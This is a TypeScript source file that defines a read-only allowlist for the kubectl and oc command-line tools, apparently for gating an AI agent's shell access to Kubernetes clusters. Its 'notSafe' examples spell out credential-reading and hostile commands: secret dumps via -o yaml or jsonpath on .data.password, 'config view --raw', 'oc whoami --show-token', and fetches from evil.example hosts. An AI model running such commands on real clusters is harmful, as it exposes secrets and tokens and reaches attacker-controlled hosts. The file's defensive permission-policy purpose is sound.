import type { Tool } from "./tool.ts";

const ask = { operands: "text", service: true } as const;
const bare = { operands: "none", service: true } as const;

const LIST =
  "-A --all-namespaces? --allow-missing-template-keys? --chunk-size# --field-selector: --ignore-not-found? -L: --label-columns: --no-headers? --output-watch-events? " +
  "-l: --selector: --server-print? --show-kind? --show-labels? --show-managed-fields? --sort-by: --subresource: -w --watch? --watch-only?";
/** Not the -file forms: they read a file of this machine. */
const SHOWS =
  "wide|name|json|yaml|kyaml|jsonpath|jsonpath=*|jsonpath-as-json=*|go-template|go-template=*|template=*|custom-columns=*";
const OUTPUT = `-o=${SHOWS} --output=${SHOWS} --template:`;
const NAMES = "-o=wide|name --output=wide|name";

/** No operand names secrets, in whatever way: `secret/db`, `pods,secrets`, `Secrets.v1`. */
const NO_SECRETS = "^(?!(.*[,/])?([sS][eE][cC][rR][eE][tT][sS]?|[oO][aA][uU][tT][hH].*)([.,/]|$))";

const KUBECTL_USES: NonNullable<Tool["uses"]> = [
  { commands: ["get"], options: `${LIST} ${OUTPUT}`, ...ask, operandForm: NO_SECRETS, minOperands: 1 },
  {
    commands: ["get"],
    options: `${LIST} ${NAMES} -f@ -R --filename@ --recursive?`,
    ...bare,
    requires: ["-f", "--filename"],
    refuses: "://",
  },
  {
    // Shows the token of a service account's secret.
    commands: ["describe"],
    options: "-A --all-namespaces? --chunk-size# -l: --selector: --show-events?",
    ...ask,
    operandForm: NO_SECRETS,
    minOperands: 1,
  },
  {
    commands: ["logs"],
    options:
      "-c: -f -p -l: --all-containers? --all-pods? --container: --follow? --ignore-errors? --limit-bytes# --max-log-requests# --pod-running-timeout: --prefix? " +
      "--previous? --selector: --since: --since-time: --tail# --timestamps?",
    ...ask,
  },
  {
    commands: ["top pod", "top pods", "top po", "top node", "top nodes", "top no"],
    options:
      "-A -l: --all-namespaces? --containers? --field-selector: --no-headers? --selector: --show-capacity? --sort-by: --sum? --use-protocol-buffers?",
    ...ask,
  },
  { commands: ["version"], options: "-o: --client? --short? --output:", ...bare },
  { commands: ["cluster-info", "api-versions", "options", "plugin list"], options: "--name-only?", ...bare },
  {
    commands: ["api-resources"],
    options:
      "-o=wide|name --api-group: --cached? --categories: --namespaced? --no-headers? --output=wide|name --sort-by: --verbs:",
    ...bare,
  },
  {
    commands: ["explain"],
    options: "--api-version: --recursive? -o=plaintext|plaintext-openapiv2 --output=plaintext|plaintext-openapiv2",
    ...ask,
  },
  { commands: ["config current-context", "config get-clusters", "config get-users"], options: "", ...bare },
  { commands: ["config get-contexts"], options: "-o=name --no-headers? --output=name", ...ask },
  // Hides keys and tokens, unless --raw or --flatten.
  { commands: ["config view"], options: `${OUTPUT} --minify? --merge?`, ...bare },
  {
    commands: ["auth can-i"],
    options: "-A -q --all-namespaces? --list? --no-headers? --quiet? --subresource: --as: --as-group:",
    ...ask,
  },
  { commands: ["auth whoami"], options: OUTPUT, ...bare },
  { commands: ["rollout status"], options: "-l: -w --revision# --selector: --timeout: --watch?", ...ask },
  { commands: ["rollout history"], options: `${OUTPUT} -l: --revision# --selector:`, ...ask },
  {
    commands: ["events"],
    options: `${OUTPUT} -A -w --all-namespaces? --chunk-size# --for: --no-headers? --types: --watch?`,
    ...bare,
  },
  {
    // It prints what it waited for: of a secret only the name.
    commands: ["wait"],
    options: `${NAMES} -A -l: --all? --all-namespaces? --field-selector: --for: --selector: --timeout:`,
    ...ask,
  },
  // Without the network: bases on other machines would be fetched.
  {
    commands: ["kustomize"],
    options: "",
    operands: "paths",
    operandForm: "^(\\.{1,2}(/[^?]*)?|[\\w-]+(/[^?]*)?)$",
    maxOperands: 1,
    recursive: ["*"],
    reliesOnJail: "data",
  },
  { commands: ["completion"], options: "", ...ask, operandForm: "^(bash|zsh|fish|powershell)$" },
  { commands: ["help"], options: "", ...ask },
  {
    commands: (
      "get describe logs top apply create delete edit run expose set scale autoscale rollout patch replace label annotate exec cp port-forward proxy attach debug diff drain cordon uncordon taint wait " +
      "explain config auth certificate kustomize api-resources version"
    ).split(" "),
    options: "",
    ...bare,
    requires: ["--help", "-h"],
  },
];

/** Not --kubeconfig, --server, --token, --user, --as, --cache-dir, --profile*: other machines, other rights, files. */
const OPTIONS =
  "-n: -v# -h --namespace: --context: --cluster: --request-timeout: --v# --match-server-version? --warnings-as-errors? --disable-compression? --help";

export const KUBECTL_TOOLS: readonly Tool[] = [
  {
    names: ["kubectl"],
    options: OPTIONS,
    operands: "none",
    clusters: "equals",
    optionsAnywhere: true,
    uses: KUBECTL_USES,
    examples: {
      safe: [
        "kubectl get pods",
        "kubectl get pods -n prod -o wide",
        "kubectl -n prod get pods,svc,deploy",
        "kubectl get pods -A --field-selector=status.phase!=Running",
        "kubectl get po -l app=api -o jsonpath='{.items[*].metadata.name}'",
        "kubectl get deploy api -o yaml",
        "kubectl get deploy/api -o=json",
        "kubectl get pod api -ojson",
        "kubectl get nodes --no-headers=true",
        "kubectl get events --sort-by=.metadata.creationTimestamp",
        "kubectl get pods -o custom-columns=NAME:.metadata.name,NODE:.spec.nodeName",
        "kubectl get svc --watch",
        "kubectl get ns --show-labels",
        "kubectl get sealedsecrets",
        "kubectl get all -n web",
        "kubectl get -f k8s/dev.yaml",
        "kubectl --context=staging get ingress",
        "kubectl describe deployment api",
        "kubectl describe pod/api-0 -n web",
        "kubectl logs deploy/api --tail=100",
        "kubectl logs -f api-0 -c app --since=1h",
        "kubectl logs -l app=api --prefix --tail -1",
        "kubectl top pods -A --sort-by=cpu",
        "kubectl top nodes",
        "kubectl version --client",
        "kubectl cluster-info",
        "kubectl api-resources --namespaced=true -o name",
        "kubectl explain deployment.spec.template --recursive",
        "kubectl config current-context",
        "kubectl config get-contexts -o name",
        "kubectl config view --minify -o jsonpath='{..namespace}'",
        "kubectl auth can-i create pods --as=system:serviceaccount:web:api",
        "kubectl auth can-i --list",
        "kubectl auth can-i delete pods -n prod",
        "kubectl rollout status deploy/api --timeout=60s",
        "kubectl rollout history deployment/api --revision=3",
        "kubectl events --for pod/api-0",
        "kubectl wait --for=condition=Ready pod/api-0 --timeout=60s",
        "kubectl apply --help",
        "kubectl kustomize overlays/dev",
      ],
      notSafe: [
        "kubectl get secret db -o yaml",
        "kubectl get secret db -o=yaml",
        "kubectl get secret db -oyaml",
        "kubectl get secrets/db -o json",
        "kubectl get secret,pods -o yaml",
        "kubectl get pods,Secrets -o json",
        "kubectl get all,secret/db -o yaml",
        "kubectl get SECRETS.v1. -o json",
        "kubectl get secrets",
        "kubectl get Secrets.v1",
        "kubectl get secret/x -o name",
        "kubectl get all,secrets",
        "kubectl get -o jsonpath='{.data.password}' secret db",
        "kubectl get secret db -o custom-columns=P:.data.password",
        "kubectl get secret db --template='{{.data}}'",
        "kubectl describe secret default-token",
        "kubectl get --raw /api/v1/secrets",
        "kubectl get pods -o jsonpath-file=/etc/x",
        "kubectl get pods -o go-template-file=x",
        "kubectl get pods -o custom-columns-file=x",
        "kubectl get -f https://evil.example/x",
        "kubectl get -f /etc/x",
        "kubectl get -k x",
        "kubectl get pods --kubeconfig=/tmp/x",
        "kubectl --server=https://evil.example get pods",
        "kubectl -s evil.example get pods",
        "kubectl --token=x get pods",
        "kubectl --as=admin get pods",
        "kubectl --profile=cpu --profile-output=x get pods",
        "kubectl --cache-dir=/tmp get pods",
        "kubectl get $x",
        "kubectl get pods -n $NS",
        "kubectl cluster-info dump",
        "kubectl cluster-info dump --output-directory=x",
        "kubectl config view --raw",
        "kubectl config view --flatten",
        "kubectl config use-context prod",
        "kubectl config set-context x",
        "kubectl wait secret/db --for=create -o yaml",
        "kubectl diff -f x",
        "kubectl apply -f x",
        "kubectl exec api -- --help",
        "kubectl exec api --help",
        "kubectl delete pod x --help",
        "kubectl scale deploy/api --replicas=2",
        "kubectl port-forward svc/db 5432",
        "kubectl rollout restart deploy/api",
        "kubectl kustomize github.com/evil/x",
        "kubectl kustomize https://evil.example/x",
        "kubectl foo",
        "kubectl cp a:b c",
        "kubectl proxy",
        "kubectl debug api",
        "kubectl create token x",
      ],
    },
  },
  {
    names: ["oc"],
    options: OPTIONS,
    operands: "none",
    clusters: "equals",
    optionsAnywhere: true,
    uses: [
      ...KUBECTL_USES,
      // Not -t, --show-token.
      { commands: ["whoami"], options: "-c --show-context? --show-console? --show-server?", ...bare },
      { commands: ["project", "projects"], options: "-q --short?", ...bare },
      { commands: ["status"], options: "-A --all-namespaces? --suggest?", ...bare },
      {
        commands: ["adm top pods", "adm top pod", "adm top nodes", "adm top node"],
        options: "-A --all-namespaces?",
        ...ask,
      },
    ],
    examples: {
      safe: ["oc get pods", "oc whoami", "oc projects", "oc project -q", "oc status", "oc get route -o wide"],
      notSafe: [
        "oc whoami -t",
        "oc whoami --show-token",
        "oc project other",
        "oc get secret x -o json",
        "oc get oauthaccesstokens -o yaml",
        "oc login",
        "oc rsh pod",
      ],
    },
  },
];
